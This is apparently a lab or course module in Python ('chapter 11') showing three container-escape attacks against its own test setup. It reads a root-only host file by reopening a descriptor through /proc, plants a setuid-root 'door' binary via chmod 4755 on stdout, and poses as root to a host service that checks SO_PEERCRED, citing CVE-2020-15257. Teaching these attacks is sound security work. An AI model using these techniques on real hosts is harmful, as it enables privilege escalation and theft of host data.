"""The attack of chapter 11: no call, no power, no path. It is enough to be root.

Whoever asks "are you root?" gets the kernel's answer, and it is about the host's user 0. Three who
ask: the mode bits of a file that has been handed in, the kernel when it executes a program whose
owner is root, and a service that looks at the credentials of its caller (CVE-2020-15257).
"""

from __future__ import annotations

import os
import socket
import subprocess
import threading
from pathlib import Path

from chapters import patience
from chapters.ch10_seccomp.attack import LAST, NUMBERS, Program
from chapters.ground import Ground
from chapters.stages import CLONE

# <asm/unistd.h>: x86-64, aarch64
NUMBERS |= {"read": (0, 63), "connect": (42, 203), "geteuid": (107, 175)}
NOBODY = 65534


def read_the_log(ground: Ground) -> bool:
    """read a file that only root may read, to whose end our output goes"""
    log = ground.file("log", "the host's secret\n")
    log.chmod(0o600)
    # What a descriptor leads to is opened anew by its name below /proc: now for reading.
    script = "exec 3>&1; cat /proc/$$/fd/3 >/tmp/seen; grep -q secret /tmp/seen && echo got it"
    run_into(ground, log, script)
    return "got it" in log.read_text()


def leave_a_door(ground: Ground) -> bool:
    """make the file that our output goes to a program that gives root to whoever runs it"""
    door = ground.file("output", "")
    program = Program()
    program.call("geteuid")
    program.call("exit_group", LAST)
    program.write(ground.rootfs / "bin" / "door")
    run_into(ground, door, "cat /bin/door; chmod 4755 /dev/stdout")
    return door.stat().st_mode & 0o4000 != 0 and user_of_the_host_runs(door) == 0


def be_taken_for_root(ground: Ground) -> bool:
    """ask a service that does what root says, on a socket of the network that we share"""
    name = f"\0chapter-11-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as service:
        service.bind(name)
        service.listen()
        answer = threading.Thread(target=serve, args=(service,))
        answer.start()
        try:
            caller = Program()
            address = socket.AF_UNIX.to_bytes(2, "little") + name.encode()
            place, buffer = caller.data(address), caller.data(bytes(64))
            caller.call("socket", socket.AF_UNIX, socket.SOCK_STREAM, 0)
            # Descriptor 3: the three standard ones are open, and no other.
            caller.call("connect", 3, place, len(address))
            caller.call("read", 3, buffer, 64)
            caller.call("write", 1, buffer, LAST)
            caller.call("exit_group", 0)
            caller.write(ground.rootfs / "bin" / "caller")
            return "the host's secret" in ground.run("caller")
        finally:
            with socket.socket(socket.AF_UNIX) as ours:
                ours.connect(name)  # whoever did not call: let the service end
            answer.join()


def serve(service: socket.socket) -> None:
    """A service of the host: the kernel tells who calls (unix(7), SO_PEERCRED), and root gets an
    answer. It ends when its own process calls."""
    while True:
        caller, _ = service.accept()
        with caller:
            credentials = caller.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12)
            pid, uid = (int.from_bytes(credentials[i : i + 4], "little") for i in (0, 4))
            if pid == os.getpid():
                return
            caller.sendall(b"the host's secret\n" if uid == 0 else b"not for you\n")


def run_into(ground: Ground, output: Path, script: str) -> None:
    """Run a script in the container with its output at the end of a file of the host."""
    with output.open("a") as file:
        subprocess.run(
            ground.stage.command(ground.rootfs, "sh", "-c", script),
            cwd=CLONE, stdin=subprocess.DEVNULL, stdout=file, stderr=subprocess.DEVNULL,
            timeout=patience.seconds(30), check=False,
        )  # fmt: skip
    ground.told += [f"$ {script}"]


def user_of_the_host_runs(program: Path) -> int:
    """The exit code of a program that an ordinary user of the host executes."""
    child = os.fork()
    if not child:
        descriptor = os.open(program, os.O_RDONLY | os.O_CLOEXEC)
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)
        try:
            os.execve(descriptor, [program.name], {})
        finally:
            os._exit(1)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


ATTACKS = (read_the_log, leave_a_door, be_taken_for_root)
